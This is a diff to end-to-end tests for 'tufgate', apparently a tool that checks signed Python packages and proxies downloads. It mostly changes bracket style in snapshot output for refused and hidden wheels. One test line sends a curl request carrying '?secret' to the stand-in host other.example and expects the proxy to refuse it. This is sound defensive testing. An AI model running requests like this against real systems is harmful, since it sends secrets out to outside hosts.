@@ -109,7 +109,7 @@ describe.runIf(hasPip)('what is refused', () => {
     expect(show(stopped.stdout, job)).toMatchInlineSnapshot(`
       "tufgate: 1 file verified (972 B), 1 refused
         Refused:
-          e2e_victim-1.0-py3-none-any.whl: sha256 of e2e_victim-1.0-py3-none-any.whl is not the signed one [<id>]
+          e2e_victim-1.0-py3-none-any.whl: sha256 of e2e_victim-1.0-py3-none-any.whl is not the signed one (<id>)
             code     DIGEST_MISMATCH
             expected <sha256>
             found    <sha256>
@@ -171,7 +171,7 @@ describe.runIf(hasPip)('what is refused', () => {
 
       |   |   |   |
       |---|---|---|
-      | <code>e2e&#95;victim-1.0-py3-none-any.whl</code> | <code>sha256 of e2e&#95;victim-1.0-py3-none-any.whl is not the signed one &#91;<id>&#93;</code> | code <code>DIGEST&#95;MISMATCH</code><br>expected <code><sha256></code><br>found <code><sha256></code> |
+      | <code>e2e&#95;victim-1.0-py3-none-any.whl</code> | <code>sha256 of e2e&#95;victim-1.0-py3-none-any.whl is not the signed one &#40;<id>&#41;</code> | code <code>DIGEST&#95;MISMATCH</code><br>expected <code><sha256></code><br>found <code><sha256></code> |
 
       ### Warnings
 
@@ -233,7 +233,7 @@ describe.runIf(hasPip)('what is hidden', () => {
     expect(show(stopped.stdout, job)).toMatchInlineSnapshot(`
       "tufgate: no file handed out, nothing refused, files of 1 project hidden by policy
         Hidden by policy:
-          e2e-good: policy hides e2e_good-1.0-py3-none-any.whl, and nothing else is left [<id>]
+          e2e-good: policy hides e2e_good-1.0-py3-none-any.whl, and nothing else is left (<id>)
             rule     TOO_YOUNG
         Warnings:
           trial: FIRST CONTACT with this root: an old list that has not expired cannot be recognised yet
@@ -256,6 +256,8 @@ describe('a sidecar that intercepts', () => {
       '. ./env.sh\ncurl -s -x "$http_proxy" http://other.example/x?secret',
     )
     expect(asked.stdout).toContain('FORWARD_REFUSED')
+    const near = await job.step('. ./env.sh\necho "[$NO_PROXY][$no_proxy]"')
+    expect(near.stdout).toBe('[][]\n')
     const stopped = await job.step('tufgate stop --fail-on-refusal')
     expect(stopped.code).toBe(3)
     expect(stopped.stdout).toMatch(/GET http:\/\/other\.example\/x: .* \(r-/)
